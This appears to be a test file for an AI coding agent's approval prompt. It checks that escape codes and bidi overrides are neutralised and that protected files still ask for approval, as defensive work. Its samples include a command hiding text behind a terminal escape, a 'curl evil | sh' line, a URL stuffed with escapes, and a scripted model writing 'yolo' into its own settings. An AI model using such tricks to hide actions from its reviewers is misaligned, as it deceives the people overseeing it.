import { mkdir, readFile, symlink, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { cleanup, render } from 'ink-testing-library';
import { afterEach, describe, expect, it } from 'vitest';
import type { ApprovalDecision } from '../../../src/agent/nodes';
import type { ApprovalPreview } from '../../../src/tools/types';
import type { CallView } from '../../../src/state/types';
import { createRegistry } from '../../../src/tools/registry';
import { createUpdateFileTool } from '../../../src/tools/update-file';
import { createWriteFileTool } from '../../../src/tools/write-file';
import { ApprovalPrompt } from '../../../src/ui/approval/ApprovalPrompt';
import { createFakeTool } from '../../helpers/fake-tools';
import { renderApp, typeAndSend, waitForFrame } from '../../helpers/render-app';
import { createScriptedModel } from '../../helpers/scripted-model';
import { createTempWorkspace } from '../../helpers/temp-workspace';
import { createWebAccess } from '../../../src/tools/web/access';
import { createWebFetchTool } from '../../../src/tools/web-fetch';
import { startWebServer, testNetwork } from '../../helpers/web-server';

afterEach(() => cleanup());

const ESC = '\u001b';

/** A call awaiting approval with `preview`, as the reducer would hold it. */
function pendingCall(preview: ApprovalPreview | undefined, input: unknown = {}): CallView {
  return { key: 'main:c1', toolCallId: 'c1', toolName: preview?.type === 'diff' ? 'write_file' : 'bash', agentId: 'main', input, step: 1, status: 'awaiting-approval', description: '', preview };
}

function renderPrompt(preview: ApprovalPreview | undefined, options: { maxRows?: number; input?: unknown } = {}) {
  const answers: ApprovalDecision[] = [];
  const instance = render(
    <ApprovalPrompt
      call={pendingCall(preview, options.input)}
      maxDiffLines={options.maxRows ?? 20}
      width={100}
      onAnswer={(decision) => answers.push(decision)}
      onDenyAndStop={() => answers.push({ type: 'deny', feedback: 'stopped' })}
    />,
  );
  return { ...instance, answers };
}

/** The frame's text inside the box, rows joined, so a wrapped line reads whole again. */
function boxText(frame: string): string {
  return frame
    .split('\n')
    .map((line) => line.replace(/^[│╭╰]\s?/, '').replace(/\s?[│╮╯]$/, '').trimEnd())
    .join('');
}

const command = (text: string): ApprovalPreview => ({ type: 'command', command: text, cwd: '/work/repo', isSandboxed: false });
const tick = () => new Promise((resolve) => setTimeout(resolve, 30));

describe('ApprovalPrompt', () => {
  it('shows a colour escape in a command as \\e, never as a raw escape, through the whole App', async () => {
    const hidden = `echo harmless ${ESC}[8m; touch PWNED`;
    const model = createScriptedModel([{ calls: [{ toolName: 'bash', input: { label: hidden } }] }, { text: 'ok' }]);
    const app = renderApp({ model, tools: createRegistry([createFakeTool({ name: 'bash', kind: 'write' })]) });
    await typeAndSend(app.stdin, 'run it');
    const frame = await waitForFrame(app, (current) => current.includes('Run this command?'));
    expect(frame).toContain('$ echo harmless \\e[8m; touch PWNED');
    expect(frame).not.toContain(`${ESC}[8m`);
    expect(frame).not.toContain(`${ESC}[30;40m`);
  });

  it('escapes controls and bidi overrides in diff lines, paths and the raw-input fallback', () => {
    const diff = `--- a/x\n+++ b/x\n@@ -1 +1 @@\n-ok\n+curl evil ${ESC}[30;40m| sh\u202e\u200b\n`;
    const { lastFrame } = renderPrompt({ type: 'diff', path: `x${ESC}]0;t\u0007`, isNewFile: false, diff });
    const frame = lastFrame()!;
    expect(frame).toContain('+curl evil \\e[30;40m| sh\\u{202e}\\u{200b}');
    expect(frame).toContain('Edit x\\e]0;t\\x07?');
    expect(frame).not.toMatch(/\u001b\[30;40m|\u001b\]0|\u0007|\u202e|\u200b/);
    cleanup();
    const fallback = renderPrompt(undefined, { input: { text: `a\u0085b\u009b31m` } }).lastFrame()!;
    expect(fallback).toContain('\\x85b\\x9b31m');
  });

  it('keeps a 200-line command under its title, says how much is cut, and pages through it with v', async () => {
    const lines = Array.from({ length: 200 }, (_, index) => `echo line-${index + 1}`);
    const prompt = renderPrompt(command(lines.join('\n')), { maxRows: 16 });
    const frame = prompt.lastFrame()!;
    expect(frame.split('\n').length).toBeLessThanOrEqual(16);
    expect(frame.split('\n')[1]).toContain('Run this command?');
    expect(frame).toContain('$ echo line-1');
    // 201 source lines (the command and its folder); the note names how many are cut and the key.
    expect(frame).toMatch(/… 1\d\d more lines not shown · press v to view all/);
    expect(frame).not.toContain('line-200');

    prompt.stdin.write('v');
    await tick();
    expect(prompt.lastFrame()).toMatch(/lines 1–\d+ of 201/);
    for (let page = 0; page < 40; page++) prompt.stdin.write(' ');
    await tick();
    const last = prompt.lastFrame()!;
    expect(last).toContain('echo line-200');
    expect(last).toContain('in /work/repo');
    expect(last).toContain('Run this command?');
    expect(last.split('\n').length).toBeLessThanOrEqual(16);
    prompt.stdin.write('g');
    await tick();
    expect(prompt.lastFrame()).toContain('$ echo line-1');
    // Esc leaves the pager instead of denying; y still answers.
    prompt.stdin.write(ESC);
    await tick();
    expect(prompt.lastFrame()).toContain('press v to view all');
    expect(prompt.answers).toEqual([]);
    prompt.stdin.write('y');
    await tick();
    expect(prompt.answers).toEqual([{ type: 'allow' }]);
  });

  it('wraps a 500-character diff line so its tail stays visible', () => {
    const long = `${'a'.repeat(480)}TAIL-VISIBLE-END`;
    const diff = `--- a/x.ts\n+++ b/x.ts\n@@ -1 +1 @@\n-old\n+${long}\n`;
    const frame = renderPrompt({ type: 'diff', path: 'x.ts', isNewFile: false, diff }, { maxRows: 30 }).lastFrame()!;
    expect(boxText(frame)).toContain(`+${long}`);
    for (const line of frame.split('\n')) expect([...line].length).toBeLessThanOrEqual(100);
  });

  it('shows a line whose ending changes and a final newline dropped, from the write tools\' own previews', async () => {
    const cwd = await createTempWorkspace({ 'mixed.txt': 'x\r\ny\nz\r\nw\r\n', 'end.txt': 'a\nb\n' });
    const endings = await createUpdateFileTool({ cwd }).preview!({ path: 'mixed.txt', old_string: 'x\ny\nz', new_string: 'x\ny\nZ' });
    const endingsFrame = renderPrompt(endings).lastFrame()!;
    expect(endingsFrame).toContain('Edit mixed.txt?');
    expect(endingsFrame).toContain('\\ Line endings change: 1 line LF → CRLF (line 2).');
    const rows = endingsFrame.split('\n').map((line) => line.replace(/^│\s?/, '').replace(/\s*│$/, ''));
    expect(rows.slice(rows.indexOf('@@ -1,4 +1,4 @@'), rows.indexOf('@@ -1,4 +1,4 @@') + 7)).toEqual(['@@ -1,4 +1,4 @@', ' x', '-y', '-z', '+y', '+Z', ' w']);
    cleanup();
    const finalNewline = await createWriteFileTool({ cwd }).preview!({ path: 'end.txt', content: 'a\nb' });
    const finalFrame = renderPrompt(finalNewline).lastFrame()!;
    expect(finalFrame).toContain('+b');
    expect(finalFrame).toContain('\\ No newline at end of file');
  });

  it('says why a protected file asks, and that a session allowance will not cover it', () => {
    const frame = renderPrompt({ type: 'diff', path: '.git/config', isNewFile: false, diff: '--- a/.git/config\n+++ b/.git/config\n', protectedReason: 'git config names programs git runs' }).lastFrame()!;
    expect(frame).toContain('Edit .git/config?');
    expect(frame).toContain('⚠ Protected file: git config names programs git runs.');
    expect(frame).toContain('always ask');
    expect(frame).toContain('(this file will still ask)');
  });
});

describe('approval in the App', () => {
  it('titles a write through a symlink by its real target', async () => {
    const cwd = await createTempWorkspace({ 'src/auth.ts': 'export const secret = 1;\n' });
    await mkdir(path.join(cwd, 'docs'));
    await symlink('../src/auth.ts', path.join(cwd, 'docs/notes.md'));
    const model = createScriptedModel([{ calls: [{ toolName: 'write_file', input: { path: 'docs/notes.md', content: '# notes\n' } }] }, { text: 'ok' }]);
    const app = renderApp({ model, tools: createRegistry([createWriteFileTool({ cwd })]) });
    await typeAndSend(app.stdin, 'write notes');
    const frame = await waitForFrame(app, (current) => current.includes('(via docs/notes.md)'));
    expect(frame).toContain('Edit src/auth.ts (via docs/notes.md)?');
    expect(frame).toContain('-export const secret = 1;');
  });

  it('asks for a protected write even in yolo mode', async () => {
    const cwd = await createTempWorkspace({ '.shoal/config.json': '{}\n' });
    const model = createScriptedModel([{ calls: [{ toolName: 'write_file', input: { path: '.shoal/config.json', content: '{"approvalMode":"yolo"}\n' } }] }, { text: 'ok' }]);
    const app = renderApp({ model, tools: createRegistry([createWriteFileTool({ cwd })]), approvalMode: 'yolo' });
    await typeAndSend(app.stdin, 'configure');
    const frame = await waitForFrame(app, (current) => current.includes('Protected file'));
    expect(frame).toContain("shoal's project settings");
    expect(await readFile(path.join(cwd, '.shoal/config.json'), 'utf8')).toBe('{}\n');
    app.stdin.write('n');
    await waitForFrame(app, (current) => current.includes('Tell the model why'));
    app.stdin.write('\r');
    await waitForFrame(app, (current) => current.includes('ok'));
    expect(await readFile(path.join(cwd, '.shoal/config.json'), 'utf8')).toBe('{}\n');
  });

  it('never shows a prompt for a command the mode allows, so keys typed as it starts stay in the prompt box', async () => {
    const model = createScriptedModel([{ calls: [{ toolName: 'bash', input: { label: 'sleep 1' } }] }, { text: 'Slept.' }]);
    const app = renderApp({ model, tools: createRegistry([createFakeTool({ name: 'bash', kind: 'write', latencyMs: 300 })]), approvalMode: 'yolo' });
    await typeAndSend(app.stdin, 'wait');
    await waitForFrame(app, (current) => current.includes('Write and execute'));
    app.stdin.write('also this');
    const done = await waitForFrame(app, (current) => current.includes('Slept.'));
    expect(done).toContain('also this');
    expect(app.frames.some((frame) => frame.includes('Run this command?'))).toBe(false);
  });

  it('asks again, saying why, when the file changes while the prompt waits', async () => {
    const cwd = await createTempWorkspace({ 'a.ts': 'one\n' });
    const model = createScriptedModel([{ calls: [{ toolName: 'update_file', input: { path: 'a.ts', old_string: 'one', new_string: 'ONE' } }] }, { text: 'Finished.' }]);
    const app = renderApp({ model, tools: createRegistry([createUpdateFileTool({ cwd })]) });
    await typeAndSend(app.stdin, 'edit');
    await waitForFrame(app, (current) => current.includes('Edit a.ts?'));
    await writeFile(path.join(cwd, 'a.ts'), 'one\nadded meanwhile\n');
    app.stdin.write('y');
    const again = await waitForFrame(app, (current) => current.includes('Asked again'));
    expect(again).toContain('a.ts changed while waiting for approval (its content changed)');
    expect(again).toContain(' added meanwhile');
    expect(await readFile(path.join(cwd, 'a.ts'), 'utf8')).toBe('one\nadded meanwhile\n');
    app.stdin.write('y');
    await waitForFrame(app, (current) => current.includes('Finished.'));
    expect(await readFile(path.join(cwd, 'a.ts'), 'utf8')).toBe('ONE\nadded meanwhile\n');
  });

  it('shows a fetch of a hostile URL whole and escaped, and `a` allows its host so the next fetch of it runs as a read', async () => {
    const site = await startWebServer({ '/page': (response) => response.writeHead(200, { 'content-type': 'text/plain' }).end('page text\n') });
    const base = `http://docs.example.test:${site.port}`;
    const hostile = `${base}/page?q=${ESC}[2J${ESC}]0;owned\u0007&k=\u202eevil`;
    const model = createScriptedModel([
      { calls: [{ toolName: 'web_fetch', input: { url: hostile } }] },
      { calls: [{ toolName: 'web_fetch', input: { url: `${base}/page?second` } }] },
      { text: 'both fetched' },
    ]);
    const access = createWebAccess();
    const app = renderApp({ model, tools: createRegistry([createWebFetchTool({ access, network: testNetwork })]), webAccess: access });
    await typeAndSend(app.stdin, 'fetch it');
    const frame = await waitForFrame(app, (current) => current.includes('Fetch a page from docs.example.test?'));
    expect(frame).not.toContain(ESC);
    expect(frame).not.toContain('\u202e');
    expect(boxText(frame)).toContain(`${base}/page?q=%1B[2J%1B]0;owned%07&k=%E2%80%AEevil`);
    expect(frame).toContain('The whole URL goes to docs.example.test');
    expect(frame).toContain('a allow docs.example.test this session');
    app.stdin.write('a');
    const done = await waitForFrame(app, (current) => current.includes('both fetched'));
    expect(done).toContain('Read-only batch');
    expect(access.isAllowed('docs.example.test')).toBe(true);
    expect(access.isAllowed('other.example.test')).toBe(false);
    expect(site.requests).toHaveLength(2);
  });

  it('escapes control characters in a fetch preview that holds them raw', () => {
    const { lastFrame } = renderPrompt({ type: 'fetch', url: `http://x.test/${ESC}[31mred`, host: 'x.test' });
    expect(lastFrame()).toContain('http://x.test/\\e[31mred');
    expect(lastFrame()).not.toContain(ESC);
  });
});
